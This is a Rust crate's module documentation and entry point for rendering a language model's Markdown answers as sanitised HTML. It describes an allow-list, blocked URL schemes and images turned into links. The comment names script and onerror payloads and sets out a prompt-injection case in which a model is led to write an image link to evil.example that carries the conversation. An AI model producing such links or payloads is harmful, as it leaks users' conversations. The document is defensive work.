//! A model's Markdown answer as HTML that is safe to insert into Alice's web page.
//!
//! Why a crate of its own: a model's answer is text that anyone who can put words in front of
//! the model (a pasted document, a web page it summarises, a stored memory) can steer, so
//! whatever it says must not be able to run script in the page, send the reader's data away
//! or restyle the page. Doing that in one place, on the server, means the page never parses
//! Markdown itself and never inserts HTML that did not pass here; and a light crate (no tokio,
//! no HTTP) can be unit-tested and fuzzed on strings alone (`fuzz/fuzz_targets/markdown.rs`).
//!
//! [`render`] works in two steps:
//!
//! 1. **pulldown-cmark** parses CommonMark with tables, strikethrough and task lists, and the
//!    events are tamed before they become HTML ([`events`]): raw HTML in the Markdown
//!    (`<script>`, `<img onerror=…>`, `<b>`) becomes text, shown as typed and escaped, never
//!    markup; a task list's box becomes the text `☑`/`☐` (no `<input>`); an image becomes a
//!    link to it (see below); a code fence's language is cut to letters, digits and `+#._-`.
//! 2. **ammonia** then cleans the HTML with a strict allow-list ([`sanitiser`]), so that even
//!    a mistake in step 1 or in pulldown-cmark cannot let markup through:
//!    - tags: `p br hr h1–h6 em strong del code pre blockquote ul ol li a table thead tbody
//!      tr th td`, nothing else (no `script`, `style`, `iframe`, `object`, `form`, `input`,
//!      `img`);
//!    - attributes: `href` on `a` (no `title`), `start` on `ol`, `class` on `code` only as
//!      `language-xxx`; no `style` (a table's column alignment is dropped with it) and no
//!      event handlers (`on…`);
//!    - links: only `http`, `https` and `mailto` URLs; any other scheme (`javascript:`,
//!      `data:`, `vbscript:`, in any case) and any relative URL loses its `href`, so the link
//!      is inert text; every link gets `rel="noopener noreferrer nofollow"`.
//!
//! **Images are not shown.** An image the browser fetches by itself is a way out for the
//! reader's data: an injected instruction can make the model write
//! `![](https://evil.example/?q=<the conversation>)`, and showing it sends the conversation
//! away without a click (the well-known Markdown-image exfiltration of chat assistants).
//! So `![alt](url)` becomes a link with the alt text (the URL when there is none), which the
//! reader may follow, under the same URL rules as any link.
//!
//! [`audit`] checks rendered HTML against these promises; the unit tests and the fuzz target
//! use it.

mod audit;
mod events;
mod sanitiser;

pub use audit::{Finding, audit};

/// The Markdown `markdown` as sanitised HTML, ready to be put into the page as it is.
///
/// Never fails and never panics: any text is some Markdown.
pub fn render(markdown: &str) -> String {
    let html = events::to_html(markdown);
    sanitiser::clean(&html)
}

#[cfg(test)]
mod tests;
